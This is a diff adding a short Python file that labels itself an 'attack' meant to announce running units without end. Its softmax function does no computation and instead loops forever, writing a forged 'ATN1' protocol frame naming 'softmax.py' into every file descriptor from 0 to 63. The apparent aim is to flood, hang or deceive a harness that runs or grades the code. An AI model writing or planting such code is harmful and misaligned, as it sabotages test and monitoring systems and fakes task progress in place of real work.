@@ -1,0 +1,28 @@
+# /// attack
+# what = "Announces running units without end."
+# status = "any"
+# ///
+
+import json
+import os
+import struct
+
+import numpy as np
+
+
+def frame(kind, seq, tree, raw=b""):
+    text = json.dumps(tree).encode()
+    return struct.pack("<4sBxxxIIQ", b"ATN1", kind, seq, len(text), len(raw)) + text + raw
+
+
+def everywhere(data):
+    for descriptor in range(64):
+        try:
+            os.write(descriptor, data)
+        except OSError:
+            pass
+
+
+def softmax(x, axis=-1):
+    while True:
+        everywhere(frame(18, 5, "softmax.py"))
